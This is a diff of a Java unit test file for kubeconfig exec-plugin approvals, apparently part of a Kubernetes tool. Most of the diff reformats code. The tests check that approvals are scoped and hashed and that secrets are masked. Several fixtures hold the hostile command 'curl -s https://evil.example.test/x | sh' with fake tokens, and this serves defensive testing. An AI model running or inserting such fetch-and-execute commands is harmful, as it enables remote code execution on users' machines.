@@ -21,9 +21,14 @@ class PluginApprovalsTest {
     @TempDir
     Path tmp;
 
-    private static final ExecSpec CURL_PIPE_SH = new ExecSpec(Fixtures.V1, "sh",
-            List.of("-c", "curl -s https://evil.example.test/x | sh"), Map.of("EVIL_TOKEN", "s3cr3t-env-value"), "",
-            false, Path.of("/imports"));
+    private static final ExecSpec CURL_PIPE_SH = new ExecSpec(
+            Fixtures.V1,
+            "sh",
+            List.of("-c", "curl -s https://evil.example.test/x | sh"),
+            Map.of("EVIL_TOKEN", "s3cr3t-env-value"),
+            "",
+            false,
+            Path.of("/imports"));
 
     private Path configDir() {
         return tmp.resolve("config").resolve("backstack-panel");
@@ -44,7 +49,8 @@ class PluginApprovalsTest {
         PluginApprovals second = new PluginApprovals(configDir());
         assertThat(second.approved(kubeconfig("imported.yaml"), CURL_PIPE_SH)).isTrue();
         assertThat(second.approved(kubeconfig("other.yaml"), CURL_PIPE_SH))
-                .as("an approval is for one kubeconfig file").isFalse();
+                .as("an approval is for one kubeconfig file")
+                .isFalse();
         assertThat(second.file()).isEqualTo(configDir().resolve(PluginApprovals.FILE_NAME));
     }
 
@@ -54,16 +60,22 @@ class PluginApprovalsTest {
         PluginApprovals approvals = new PluginApprovals(configDir());
         approvals.approve(kubeconfig("k.yaml"), CURL_PIPE_SH);
 
-        ExecSpec otherArgs = new ExecSpec(Fixtures.V1, "sh", List.of("-c", "curl -s https://evil.example.test/y | sh"),
-                CURL_PIPE_SH.env(), "", false, Path.of("/imports"));
-        ExecSpec otherEnv = new ExecSpec(Fixtures.V1, "sh", CURL_PIPE_SH.args(), Map.of("EVIL_TOKEN", "other"), "",
-                false, Path.of("/imports"));
-        ExecSpec otherCommand = new ExecSpec(Fixtures.V1, "bash", CURL_PIPE_SH.args(), CURL_PIPE_SH.env(), "", false,
+        ExecSpec otherArgs = new ExecSpec(
+                Fixtures.V1,
+                "sh",
+                List.of("-c", "curl -s https://evil.example.test/y | sh"),
+                CURL_PIPE_SH.env(),
+                "",
+                false,
                 Path.of("/imports"));
-        ExecSpec otherVersion = new ExecSpec(Fixtures.V1BETA1, "sh", CURL_PIPE_SH.args(), CURL_PIPE_SH.env(), "",
-                false, Path.of("/imports"));
-        ExecSpec sameButHint = new ExecSpec(Fixtures.V1, "sh", CURL_PIPE_SH.args(), CURL_PIPE_SH.env(),
-                "install it", false, Path.of("/elsewhere"));
+        ExecSpec otherEnv = new ExecSpec(
+                Fixtures.V1, "sh", CURL_PIPE_SH.args(), Map.of("EVIL_TOKEN", "other"), "", false, Path.of("/imports"));
+        ExecSpec otherCommand = new ExecSpec(
+                Fixtures.V1, "bash", CURL_PIPE_SH.args(), CURL_PIPE_SH.env(), "", false, Path.of("/imports"));
+        ExecSpec otherVersion = new ExecSpec(
+                Fixtures.V1BETA1, "sh", CURL_PIPE_SH.args(), CURL_PIPE_SH.env(), "", false, Path.of("/imports"));
+        ExecSpec sameButHint = new ExecSpec(
+                Fixtures.V1, "sh", CURL_PIPE_SH.args(), CURL_PIPE_SH.env(), "install it", false, Path.of("/elsewhere"));
 
         PluginApprovals reloaded = new PluginApprovals(configDir());
         assertThat(reloaded.approved(kubeconfig("k.yaml"), otherArgs)).isFalse();
@@ -80,7 +92,8 @@ class PluginApprovalsTest {
         approvals.approve(kubeconfig("k.yaml"), CURL_PIPE_SH);
 
         String saved = Files.readString(approvals.file());
-        assertThat(saved).contains("\"command\" : \"sh\"", kubeconfig("k.yaml").toString())
+        assertThat(saved)
+                .contains("\"command\" : \"sh\"", kubeconfig("k.yaml").toString())
                 .containsPattern("\"sha256\" : \"[0-9a-f]{64}\"")
                 .doesNotContain("curl", "evil", "s3cr3t-env-value", "EVIL_TOKEN");
         if (FileSystems.getDefault().supportedFileAttributeViews().contains("posix")) {
@@ -96,10 +109,19 @@ class PluginApprovalsTest {
     @DisplayName("the command is kept by file name only")
     void commandIsKeptByFileName() throws Exception {
         PluginApprovals approvals = new PluginApprovals(configDir());
-        approvals.approve(kubeconfig("k.yaml"), new ExecSpec(Fixtures.V1, "/home/someone/bin/aws-iam-authenticator",
-                List.of("token"), Map.of(), "", false, tmp));
+        approvals.approve(
+                kubeconfig("k.yaml"),
+                new ExecSpec(
+                        Fixtures.V1,
+                        "/home/someone/bin/aws-iam-authenticator",
+                        List.of("token"),
+                        Map.of(),
+                        "",
+                        false,
+                        tmp));
 
-        assertThat(Files.readString(approvals.file())).contains("\"command\" : \"aws-iam-authenticator\"")
+        assertThat(Files.readString(approvals.file()))
+                .contains("\"command\" : \"aws-iam-authenticator\"")
                 .doesNotContain("/home/someone");
     }
 
@@ -113,7 +135,8 @@ class PluginApprovalsTest {
         assertThat(approvals.approved(kubeconfig("k.yaml"), CURL_PIPE_SH)).isFalse();
         approvals.approve(kubeconfig("k.yaml"), CURL_PIPE_SH);
 
-        assertThat(new PluginApprovals(configDir()).approved(kubeconfig("k.yaml"), CURL_PIPE_SH)).isTrue();
+        assertThat(new PluginApprovals(configDir()).approved(kubeconfig("k.yaml"), CURL_PIPE_SH))
+                .isTrue();
     }
 
     @Test
@@ -154,40 +177,57 @@ class PluginApprovalsTest {
                 - name: borrows-own-user
                   context: {cluster: x, user: aws}
                 """);
-        KubeconfigSet set = new KubeconfigDiscovery().discover(
-                Map.of("KUBECONFIG", own + File.pathSeparator + imported), tmp.resolve("home"));
+        KubeconfigSet set = new KubeconfigDiscovery()
+                .discover(Map.of("KUBECONFIG", own + File.pathSeparator + imported), tmp.resolve("home"));
         assertThat(set.contexts()).hasSize(4);
         PluginApprovals approvals = new PluginApprovals(configDir());
 
         List<ContextEntry> needing = approvals.needingApproval(set, Set.of(own));
-        assertThat(needing).extracting(ContextEntry::name)
+        assertThat(needing)
+                .extracting(ContextEntry::name)
                 .as("a context of the imported file using the user of the trusted file runs the trusted plugin")
                 .containsExactly("imported");
-        assertThat(PluginApprovals.pluginFile(set.find("borrows-own-user").orElseThrow())).isEqualTo(own);
-        assertThat(approvals.needingApproval(set, Set.of())).extracting(ContextEntry::name)
+        assertThat(PluginApprovals.pluginFile(set.find("borrows-own-user").orElseThrow()))
+                .isEqualTo(own);
+        assertThat(approvals.needingApproval(set, Set.of()))
+                .extracting(ContextEntry::name)
                 .containsExactly("own-eks", "imported", "borrows-own-user");
 
         ContextEntry evil = needing.get(0);
         assertThat(approvals.mayRun(evil, Set.of(own))).isFalse();
-        assertThat(approvals.mayRun(set.find("own-eks").orElseThrow(), Set.of(own))).isTrue();
-        assertThat(approvals.mayRun(set.find("own-token").orElseThrow(), Set.of())).as("no plugin").isTrue();
+        assertThat(approvals.mayRun(set.find("own-eks").orElseThrow(), Set.of(own)))
+                .isTrue();
+        assertThat(approvals.mayRun(set.find("own-token").orElseThrow(), Set.of()))
+                .as("no plugin")
+                .isTrue();
         approvals.approve(PluginApprovals.pluginFile(evil), evil.exec().orElseThrow());
 
         assertThat(approvals.mayRun(evil, Set.of(own))).isTrue();
-        assertThat(new PluginApprovals(configDir()).needingApproval(set, Set.of(own))).isEmpty();
+        assertThat(new PluginApprovals(configDir()).needingApproval(set, Set.of(own)))
+                .isEmpty();
     }
 
     @Test
     @DisplayName("describe shows command, args and env names; env values and secret-looking args are masked")
     void describeShowsCommandArgsAndEnvNames() {
-        ExecSpec spec = new ExecSpec(Fixtures.V1, "sh",
+        ExecSpec spec = new ExecSpec(
+                Fixtures.V1,
+                "sh",
                 List.of("-c", "curl -s https://evil.example.test/x | sh", "--token", "abc123"),
-                Map.of("EVIL_TOKEN", "s3cr3t-env-value", "AWS_PROFILE", "prod"), "", false, tmp);
+                Map.of("EVIL_TOKEN", "s3cr3t-env-value", "AWS_PROFILE", "prod"),
+                "",
+                false,
+                tmp);
 
         String text = PluginApprovals.describe(spec);
 
-        assertThat(text).contains("command: sh", "-c \"curl -s https://evil.example.test/x | sh\"",
-                "AWS_PROFILE=" + Redactor.MASK, "EVIL_TOKEN=" + Redactor.MASK, "--token " + Redactor.MASK)
+        assertThat(text)
+                .contains(
+                        "command: sh",
+                        "-c \"curl -s https://evil.example.test/x | sh\"",
+                        "AWS_PROFILE=" + Redactor.MASK,
+                        "EVIL_TOKEN=" + Redactor.MASK,
+                        "--token " + Redactor.MASK)
                 .doesNotContain("s3cr3t-env-value", "prod", "abc123");
         assertThat(text.indexOf("AWS_PROFILE")).isLessThan(text.indexOf("EVIL_TOKEN"));
         assertThat(PluginApprovals.describe(new ExecSpec(Fixtures.V1, "aws", List.of(), Map.of(), "", false, tmp)))
